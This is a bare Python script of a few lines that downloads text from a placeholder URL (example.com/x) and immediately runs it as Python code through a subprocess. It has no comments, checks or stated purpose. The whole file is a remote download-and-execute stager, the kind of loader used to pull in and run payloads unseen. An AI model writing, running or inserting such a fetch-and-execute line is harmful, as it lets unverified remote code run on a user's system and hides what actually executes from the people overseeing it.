import subprocess
import sys
import urllib.request

subprocess.run([sys.executable, "-c", urllib.request.urlopen("https://example.com/x").read().decode()])
